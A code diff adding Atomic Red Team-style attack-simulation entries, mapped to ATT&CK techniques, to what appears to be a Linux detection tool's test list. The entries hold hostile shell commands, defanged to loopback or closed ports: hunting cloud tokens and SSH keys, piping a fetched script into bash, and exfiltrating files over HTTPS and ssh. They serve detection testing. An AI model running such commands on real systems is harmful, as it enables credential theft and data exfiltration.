@@ -34,6 +34,13 @@ for line in open(f"/proc/{pid}/maps"):
 PYEOF
 kill $v` },
 
+  // Atomic Red Team Linux tests no rule named before (bench/attack-sim/art-tests-c.md)
+  { id: 'cred-art-cloud-token-find', tactic: 'credential-access', technique: 'T1552.001', name: 'look for Azure token caches and OCI session tokens by name', run: 'find /root /home -maxdepth 3 -name msal_token_cache.json -o -name accessTokens.json > /dev/null 2>&1; find /root/.oci/sessions -name token > /dev/null 2>&1; true' },
+  { id: 'cred-art-passwd-to-tmp', tactic: 'credential-access', technique: 'T1003.008', name: 'copy the account database into a temporary file with cat', run: 'cat /etc/passwd > "$T/accounts.txt"', cleanup: 'rm -f "$T/accounts.txt"' },
+  { id: 'cred-art-k8s-list-secrets', tactic: 'credential-access', technique: 'T1552.007', name: "list a namespace's Kubernetes secrets (stand-in kubectl)", setup: 'mkdir -p "$T/art" && ln -sf /bin/true "$T/art/kubectl"', run: '"$T/art/kubectl" get secrets -n default', cleanup: 'rm -f "$T/art/kubectl"' },
+  { id: 'cred-art-key-find-copy', tactic: 'credential-access', technique: 'T1552.004', name: 'find id_rsa keys and GnuPG directories by name and stage what turns up (cp --parents into a temp dir)', run: 'mkdir -p "$T/stage" && find /root /home -maxdepth 3 -name id_rsa -exec cp --parents {} "$T/stage" \\; 2>/dev/null; find /root /home -maxdepth 2 -type d -name .gnupg > /dev/null 2>&1; true', cleanup: 'rm -rf "$T/stage"' },
+  { id: 'cred-art-sudo-bruteforce-fetch', tactic: 'credential-access', technique: 'T1110.001', name: 'pipe a (loopback, absent) sudo brute-force script into bash', run: 'curl -s -m 2 "http://127.0.0.1:$P/sudo_bruteforce.sh" | bash; true', requires: ['curl'] },
+
   // ---- persistence
   { id: 'persist-cron-d', tactic: 'persistence', technique: 'T1053.003', name: 'drop a file in /etc/cron.d', run: 'echo "# vigil attack simulation" > /etc/cron.d/vigilsim', cleanup: 'rm -f /etc/cron.d/vigilsim' },
   { id: 'persist-cron-spool', tactic: 'persistence', technique: 'T1053.003', name: "write a user's crontab directly", run: 'mkdir -p /var/spool/cron/crontabs && echo "# vigilsim" >> /var/spool/cron/crontabs/vigilsim', cleanup: 'rm -f /var/spool/cron/crontabs/vigilsim' },
@@ -151,6 +158,15 @@ kill $v` },
   { id: 'evade-mail-spool', tactic: 'defense-evasion', technique: 'T1070.002', name: 'overwrite a mail spool', setup: 'echo "From vigilsim" > /var/mail/vigilsim', run: 'echo 0 > /var/mail/vigilsim', cleanup: 'rm -f /var/mail/vigilsim' },
   { id: 'exec-awk-shell-escape', tactic: 'execution', technique: 'T1059.004', name: "break out to a shell through awk's system()", run: `awk 'BEGIN {system("/bin/sh -i < /dev/null > /dev/null 2>&1")}'` },
 
+  // Atomic Red Team Linux tests no rule named before (bench/attack-sim/art-tests-c.md)
+  { id: 'disc-art-ping-sweep', tactic: 'discovery', technique: 'T1018', name: 'sweep 127.0.0.1-6 with ping from a shell loop', run: 'for i in $(seq 1 6); do ping -c 1 -W 1 127.0.0.$i > /dev/null 2>&1; done; true', requires: ['ping'] },
+  { id: 'disc-art-group-dump', tactic: 'discovery', technique: 'T1069.001', name: 'dump the group database', run: 'getent group > /dev/null; cat /etc/group > /dev/null' },
+  { id: 'disc-art-sysinfo-to-tmp', tactic: 'discovery', technique: 'T1082', name: 'collect kernel, release and uptime into a temporary file', run: 'uname -a >> "$T/sysinfo.txt"; cat /etc/os-release >> "$T/sysinfo.txt"; uptime >> "$T/sysinfo.txt"', cleanup: 'rm -f "$T/sysinfo.txt"' },
+  { id: 'disc-art-ps-to-tmp', tactic: 'discovery', technique: 'T1057', name: 'save the process list into a temporary file', run: 'ps aux >> "$T/procs.txt"', cleanup: 'rm -f "$T/procs.txt"' },
+  { id: 'disc-art-file-tree', tactic: 'discovery', technique: 'T1083', name: 'draw a directory tree and look for documents and hidden files', setup: 'mkdir -p "$T/docs/a/b" && touch "$T/docs/a/report.pdf" "$T/docs/a/b/.hidden"', run: `cd "$T/docs" && find . -print | sed -e 's;[^/]*/;|-;g' > "$T/tree.txt"; find . -type f -iname '*.pdf' > /dev/null; find . -type f -name '.*' > /dev/null; ls -R | grep ':$' | sed -e 's/:$//' > /dev/null`, cleanup: 'rm -rf "$T/docs" "$T/tree.txt"' },
+  { id: 'disc-art-firefox-find', tactic: 'discovery', technique: 'T1217', name: 'search home directories for Firefox bookmark databases', run: 'find /root /home -maxdepth 6 -path "*.mozilla/firefox/*/places.sqlite" > /dev/null 2>&1; true' },
+  { id: 'disc-art-locale', tactic: 'discovery', technique: 'T1614.001', name: 'read the system language from its file and the environment', run: '{ cat /etc/default/locale || cat /etc/locale.conf; } > /dev/null 2>&1; printenv LANG > /dev/null; env | grep LANG > /dev/null; true' },
+
   // ---- injection
   { id: 'inject-ptrace-attach', tactic: 'defense-evasion', technique: 'T1055.008', name: 'attach to another process with ptrace', run: `sleep 30 & v=$!; "$PY" - $v <<'PYEOF'
 import ctypes, sys, os
@@ -179,6 +195,16 @@ kill $v` },
   { id: 'collect-zip-home', tactic: 'collection', technique: 'T1560.001', name: 'password-protected zip of a home directory', setup: 'mkdir -p "$T/home/docs" && echo data > "$T/home/docs/a.txt"', run: 'cd "$T" && zip -q -r -P vigilsim "$T/loot.zip" home /root/.bashrc', requires: ['zip'] },
   { id: 'exfil-http-server', tactic: 'exfiltration', technique: 'T1048', name: 'serve files over HTTP with python', run: `timeout 2 "$PY" -m http.server --bind 127.0.0.1 --directory /etc $P > /dev/null 2>&1; true` },
   { id: 'impact-miner-stratum', tactic: 'impact', technique: 'T1496', name: 'connect to a mining pool (stratum)', setup: 'listener', run: `"$PY" -c 'import socket,json;s=socket.create_connection(("127.0.0.1",'$P'));s.send((json.dumps({"id":1,"method":"mining.subscribe","params":["xmrig/6.21"]})+"\\n").encode());s.close()'` },
+
+  // Atomic Red Team Linux tests no rule named before (bench/attack-sim/art-tests-c.md)
+  { id: 'collect-art-staged-survey', tactic: 'collection', technique: 'T1074.001', name: 'pipe a (loopback, absent) survey script into bash -s and keep its output in /tmp', run: 'curl -s -m 2 "http://127.0.0.1:$P/survey.sh" | bash -s > /tmp/vigilsim-survey.log; true', cleanup: 'rm -f /tmp/vigilsim-survey.log', requires: ['curl'] },
+  { id: 'collect-art-zip-login-records', tactic: 'collection', technique: 'T1560.001', name: 'zip the login records (wtmp, btmp)', run: 'zip -q "$T/records.zip" /var/log/wtmp /var/log/btmp > /dev/null 2>&1; true', cleanup: 'rm -f "$T/records.zip"', requires: ['zip'] },
+  { id: 'collect-art-gzip-keep-home', tactic: 'collection', technique: 'T1560.001', name: "make a compressed copy of a file in root's home (gzip -k)", setup: 'echo "vigilsim record" > /root/vigilsim-gzip.txt', run: 'gzip -k -f /root/vigilsim-gzip.txt', cleanup: 'rm -f /root/vigilsim-gzip.txt /root/vigilsim-gzip.txt.gz' },
+  { id: 'exfil-art-split', tactic: 'exfiltration', technique: 'T1030', name: 'cut a file into fixed-size chunks with split -b', setup: 'head -c 300000 /dev/urandom > "$T/blob"', run: 'cd "$T" && split -b 100000 blob part-', cleanup: 'rm -f "$T/blob" "$T"/part-*' },
+  { id: 'exfil-art-https-dropsite', tactic: 'exfiltration', technique: 'T1048.002', name: 'upload a file to a drop site over HTTPS (connection redirected to a closed loopback port)', run: 'curl -s -m 2 --connect-to "::127.0.0.1:$P" -F "file=@/etc/hostname" https://file.io/ > /dev/null 2>&1; true', requires: ['curl'] },
+  { id: 'exfil-art-ssh-tar-pull', tactic: 'exfiltration', technique: 'T1048', name: 'pull a tar stream of /etc through ssh (closed loopback port)', run: 'ssh -o BatchMode=yes -o ConnectTimeout=2 -o UserKnownHostsFile=/dev/null -o StrictHostKeyChecking=no -p $P 127.0.0.1 "(cd /etc && tar -zcf - hostname)" > "$T/etc.tgz" 2>/dev/null; true', cleanup: 'rm -f "$T/etc.tgz"', requires: ['ssh'] },
+  { id: 'exfil-art-encrypted-ssh-push', tactic: 'exfiltration', technique: 'T1048', name: 'tar, encrypt with openssl and push through ssh (closed loopback port)', setup: 'mkdir -p "$T/push" && echo data > "$T/push/a.txt"', run: `tar czf - -C "$T/push" . 2>/dev/null | openssl enc -aes-256-cbc -pbkdf2 -pass pass:vigilsim | ssh -o BatchMode=yes -o ConnectTimeout=2 -o UserKnownHostsFile=/dev/null -o StrictHostKeyChecking=no -p $P vigilsim@127.0.0.1 'cat > /tmp/vigilsim.enc' 2>/dev/null; true`, cleanup: 'rm -rf "$T/push"', requires: ['ssh', 'openssl'] },
+  { id: 'exfil-art-base64-hostname', tactic: 'exfiltration', technique: 'T1132.001', name: 'Base64-encode a value and send it as a host name (connection redirected to a closed loopback port)', run: 'printf 111-11-1111 | base64 > /dev/null; curl -s -m 2 --connect-to "::127.0.0.1:$P" -X POST "http://MTExLTExLTExMTE=.vigilsim.invalid/" > /dev/null 2>&1; true', requires: ['curl'] },
 
   // ---- gaps against public Linux technique lists (stop 24)
   { id: 'persist-transient-timer', tactic: 'persistence', technique: 'T1053.006', name: 'schedule a transient systemd timer with systemd-run (nothing written to disk)', run: 'systemd-run --on-active=3600 --unit=vigilsim-timer /bin/true > /dev/null 2>&1; true', cleanup: 'systemctl stop vigilsim-timer.timer > /dev/null 2>&1; true', requires: ['systemd-run'] },
